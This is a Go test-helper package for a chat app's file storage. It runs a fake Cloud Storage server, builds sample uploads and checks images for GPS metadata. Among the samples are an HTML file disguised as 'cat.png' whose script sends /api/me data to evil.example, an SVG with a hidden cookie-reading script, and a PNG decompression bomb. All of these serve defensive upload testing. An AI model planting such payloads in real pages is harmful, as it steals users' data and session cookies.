// Package filestest helps tests of packages that keep files: a Cloud
// Storage emulator (fake-gcs-server) on a real port, pictures and other
// uploads to try, a check for location data, and the tests every
// files.Store must pass.
package filestest

import (
	"bytes"
	"compress/zlib"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/draw"
	"image/jpeg"
	"image/png"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"cloud.google.com/go/storage"
	"github.com/fsouza/fake-gcs-server/fakestorage"
	"google.golang.org/api/iterator"

	"github.com/chatrun/chat/files/gcsstore"
)

// FakeGCS starts a fake-gcs-server over plain HTTP on a free port of
// 127.0.0.1 with one empty bucket, stopped when the test ends. host
// ("127.0.0.1:port") is what gcsstore.NewClient takes; client is already
// connected to it.
func FakeGCS(t testing.TB) (host string, client *storage.Client, bucket string) {
	t.Helper()
	srv, err := fakestorage.NewServerWithOptions(fakestorage.Options{
		Scheme: "http",
		Host:   "127.0.0.1",
		// Port 0: the listener takes a free port itself, with no
		// window for another test to take it first.
		Port: 0,
	})
	if err != nil {
		t.Fatalf("fake-gcs-server: %v", err)
	}
	t.Cleanup(srv.Stop)
	bucket = "chat-files"
	srv.CreateBucketWithOpts(fakestorage.CreateBucketOpts{Name: bucket})
	host = strings.TrimPrefix(srv.URL(), "http://")
	client, err = gcsstore.NewClient(context.Background(), host)
	if err != nil {
		t.Fatalf("client of fake-gcs-server: %v", err)
	}
	t.Cleanup(func() { client.Close() })
	return host, client, bucket
}

// Objects lists the names of bucket's objects, sorted.
func Objects(t testing.TB, client *storage.Client, bucket string) []string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var names []string
	it := client.Bucket(bucket).Objects(ctx, nil)
	for {
		a, err := it.Next()
		if errors.Is(err, iterator.Done) {
			break
		}
		if err != nil {
			t.Fatalf("listing %s: %v", bucket, err)
		}
		names = append(names, a.Name)
	}
	slices.Sort(names)
	return names
}

func encodePNG(m image.Image) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, m); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// PNG is an opaque w×h PNG, a colour gradient.
func PNG(w, h int) []byte {
	m := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			m.SetNRGBA(x, y, color.NRGBA{uint8(x * 255 / max(1, w-1)), uint8(y * 255 / max(1, h-1)), 128, 255})
		}
	}
	return encodePNG(m)
}

// Screenshot is an 800×500 PNG like a screenshot: flat areas, a title
// bar, some "text" lines.
func Screenshot() []byte {
	m := image.NewRGBA(image.Rect(0, 0, 800, 500))
	draw.Draw(m, m.Rect, image.NewUniform(color.RGBA{245, 245, 245, 255}), image.Point{}, draw.Src)
	draw.Draw(m, image.Rect(0, 0, 800, 40), image.NewUniform(color.RGBA{40, 60, 110, 255}), image.Point{}, draw.Src)
	draw.Draw(m, image.Rect(20, 60, 220, 480), image.NewUniform(color.RGBA{220, 225, 235, 255}), image.Point{}, draw.Src)
	for i := range 18 {
		y := 70 + i*22
		draw.Draw(m, image.Rect(250, y, 250+200+(i*37)%300, y+10), image.NewUniform(color.RGBA{60, 60, 60, 255}), image.Point{}, draw.Src)
	}
	return encodePNG(m)
}

// JPEGWithGPS is a 640×480 JPEG (its top left quarter red, the rest blue)
// with an EXIF segment holding an orientation of 6 (to be shown turned a
// quarter clockwise: 480×640, red at the top right) and a GPS IFD with a
// latitude and longitude, and an XMP segment with the same place.
func JPEGWithGPS() []byte {
	m := image.NewRGBA(image.Rect(0, 0, 640, 480))
	draw.Draw(m, m.Rect, image.NewUniform(color.RGBA{0, 0, 255, 255}), image.Point{}, draw.Src)
	draw.Draw(m, image.Rect(0, 0, 320, 240), image.NewUniform(color.RGBA{255, 0, 0, 255}), image.Point{}, draw.Src)
	var b bytes.Buffer
	if err := jpeg.Encode(&b, m, &jpeg.Options{Quality: 90}); err != nil {
		panic(err)
	}
	j := b.Bytes()
	var out bytes.Buffer
	out.Write(j[:2])
	out.Write(segment(0xe1, append([]byte("Exif\x00\x00"), exifWithGPS()...)))
	out.Write(segment(0xe1, append([]byte("http://ns.adobe.com/xap/1.0/\x00"), []byte(
		`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">`+
			`<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,51.5N" exif:GPSLongitude="2,17.7E"/>`+
			`</rdf:RDF></x:xmpmeta>`)...)))
	out.Write(j[2:])
	return out.Bytes()
}

func segment(marker byte, payload []byte) []byte {
	s := []byte{0xff, marker, 0, 0}
	binary.BigEndian.PutUint16(s[2:], uint16(len(payload)+2))
	return append(s, payload...)
}

// exifWithGPS is a big-endian TIFF structure: IFD0 with Make, Orientation
// 6 and the GPS IFD pointer; the GPS IFD with version, latitude and
// longitude (48°51'30"N 2°17'42"E).
func exifWithGPS() []byte {
	bo := binary.BigEndian
	t := make([]byte, 172)
	copy(t, "MM\x00\x2a")
	bo.PutUint32(t[4:], 8)
	entry := func(at int, tag, typ uint16, count, value uint32) {
		bo.PutUint16(t[at:], tag)
		bo.PutUint16(t[at+2:], typ)
		bo.PutUint32(t[at+4:], count)
		bo.PutUint32(t[at+8:], value)
	}
	// IFD0 at 8: 3 entries, ends at 50.
	bo.PutUint16(t[8:], 3)
	entry(10, 0x010f, 2, 8, 50) // Make, at 50
	entry(22, 0x0112, 3, 1, 0)  // Orientation
	bo.PutUint16(t[22+8:], 6)   // (a SHORT sits in the first two bytes)
	entry(34, 0x8825, 4, 1, 58) // GPS IFD, at 58
	copy(t[50:], "Chatrun\x00") // Make
	bo.PutUint16(t[58:], 5)     // GPS IFD: 5 entries, ends at 124
	entry(60, 0x0000, 1, 4, 0)  // GPSVersionID 2.2.0.0
	copy(t[60+8:], []byte{2, 2, 0, 0})
	entry(72, 0x0001, 2, 2, 0) // GPSLatitudeRef "N"
	copy(t[72+8:], "N\x00")
	entry(84, 0x0002, 5, 3, 124) // GPSLatitude
	entry(96, 0x0003, 2, 2, 0)   // GPSLongitudeRef "E"
	copy(t[96+8:], "E\x00")
	entry(108, 0x0004, 5, 3, 148) // GPSLongitude
	for i, v := range []uint32{48, 1, 51, 1, 30, 1, 2, 1, 17, 1, 42, 1} {
		bo.PutUint32(t[124+4*i:], v)
	}
	return t
}

// PDF is a small valid PDF of one empty page.
func PDF() []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

// HTMLAsPNG is a page with a script, to be uploaded as "cat.png".
func HTMLAsPNG() []byte {
	return []byte("<!DOCTYPE html>\n<html><head><title>cat</title><script>fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))</script></head><body>cat</body></html>\n")
}

// SVGWithScript is an SVG drawing with a script, behind a byte-order
// mark, a comment and white space: http.DetectContentType calls it
// text/plain.
func SVGWithScript() []byte {
	return []byte("\xef\xbb\xbf<!-- drawn by hand -->\n  <svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>alert(document.cookie)</script><rect width=\"10\" height=\"10\"/></svg>\n")
}

func chunk(typ string, data []byte) []byte {
	c := make([]byte, 8, 12+len(data))
	binary.BigEndian.PutUint32(c, uint32(len(data)))
	copy(c[4:], typ)
	c = append(c, data...)
	return binary.BigEndian.AppendUint32(c, crc32.ChecksumIEEE(c[4:]))
}

// PNGBomb is a PNG of a few KiB whose header says w×h (8-bit RGB), with a
// short IDAT of zeros: refused from its header, it is never decoded.
func PNGBomb(w, h int) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr, uint32(w))
	binary.BigEndian.PutUint32(ihdr[4:], uint32(h))
	ihdr[8], ihdr[9] = 8, 2
	b.Write(chunk("IHDR", ihdr))
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	zw.Write(make([]byte, 1<<20))
	zw.Close()
	b.Write(chunk("IDAT", z.Bytes()))
	b.Write(chunk("IEND", nil))
	return b.Bytes()
}

// Big is n bytes of no known type (application/octet-stream).
func Big(n int) []byte {
	b := make([]byte, n)
	x := uint64(0x9e3779b97f4a7c15)
	for i := range b {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		b[i] = byte(x)
	}
	if n > 0 {
		b[0] = 0 // no text, no signature
	}
	return b
}

// HasGPS says whether a JPEG, PNG or WebP carries a place: an EXIF GPS IFD
// with entries, or GPS properties in XMP.
func HasGPS(b []byte) bool {
	switch {
	case bytes.HasPrefix(b, []byte("\xff\xd8")):
		return jpegHasGPS(b)
	case bytes.HasPrefix(b, []byte("\x89PNG\r\n\x1a\n")):
		return pngHasGPS(b)
	case len(b) >= 12 && string(b[:4]) == "RIFF" && string(b[8:12]) == "WEBP":
		return webpHasGPS(b)
	}
	return false
}

func xmpHasGPS(b []byte) bool {
	return bytes.Contains(b, []byte("GPSLatitude")) || bytes.Contains(b, []byte("GPSLongitude"))
}

func jpegHasGPS(b []byte) bool {
	for i := 2; i+4 <= len(b); {
		if b[i] != 0xff {
			return false
		}
		m := b[i+1]
		if m == 0xff {
			i++
			continue
		}
		if m == 0xd9 || m == 0xda {
			return false
		}
		if m == 0x01 || 0xd0 <= m && m <= 0xd7 {
			i += 2
			continue
		}
		n := int(binary.BigEndian.Uint16(b[i+2:]))
		if n < 2 || i+2+n > len(b) {
			return false
		}
		p := b[i+4 : i+2+n]
		if m == 0xe1 && (bytes.HasPrefix(p, []byte("Exif\x00\x00")) && tiffHasGPS(p[6:]) || xmpHasGPS(p)) {
			return true
		}
		i += 2 + n
	}
	return false
}

func pngHasGPS(b []byte) bool {
	for i := 8; i+12 <= len(b); {
		n := int(binary.BigEndian.Uint32(b[i:]))
		if n < 0 || i+12+n > len(b) {
			return false
		}
		typ, data := string(b[i+4:i+8]), b[i+8:i+8+n]
		switch typ {
		case "eXIf":
			if tiffHasGPS(data) {
				return true
			}
		case "tEXt", "iTXt":
			if xmpHasGPS(data) {
				return true
			}
		case "zTXt":
			if k := bytes.IndexByte(data, 0); k >= 0 && k+2 <= len(data) {
				zr, err := zlib.NewReader(bytes.NewReader(data[k+2:]))
				if err == nil {
					t, _ := io.ReadAll(io.LimitReader(zr, 1<<20))
					if xmpHasGPS(t) || bytes.Contains(t, []byte("8825")) {
						return true
					}
				}
			}
		}
		i += 12 + n
	}
	return false
}

func webpHasGPS(b []byte) bool {
	for i := 12; i+8 <= len(b); {
		n := int(binary.LittleEndian.Uint32(b[i+4:]))
		if n < 0 || i+8+n > len(b) {
			return false
		}
		data := b[i+8 : i+8+n]
		switch string(b[i : i+4]) {
		case "EXIF":
			if tiffHasGPS(bytes.TrimPrefix(data, []byte("Exif\x00\x00"))) {
				return true
			}
		case "XMP ":
			if xmpHasGPS(data) {
				return true
			}
		}
		i += 8 + n + n&1
	}
	return false
}

// tiffHasGPS looks in IFD0 and IFD1 for a GPS IFD pointer to a directory
// with entries.
func tiffHasGPS(t []byte) bool {
	if len(t) < 8 {
		return false
	}
	var bo binary.ByteOrder = binary.LittleEndian
	if string(t[:2]) == "MM" {
		bo = binary.BigEndian
	}
	ifd := int(bo.Uint32(t[4:]))
	for range 2 {
		if ifd < 8 || ifd+2 > len(t) {
			return false
		}
		n := int(bo.Uint16(t[ifd:]))
		if ifd+2+12*n+4 > len(t) {
			return false
		}
		for i := range n {
			e := t[ifd+2+12*i:]
			if bo.Uint16(e) == 0x8825 {
				g := int(bo.Uint32(e[8:]))
				if g >= 8 && g+2 <= len(t) && bo.Uint16(t[g:]) > 0 {
					return true
				}
			}
		}
		ifd = int(bo.Uint32(t[ifd+2+12*n:]))
	}
	return false
}
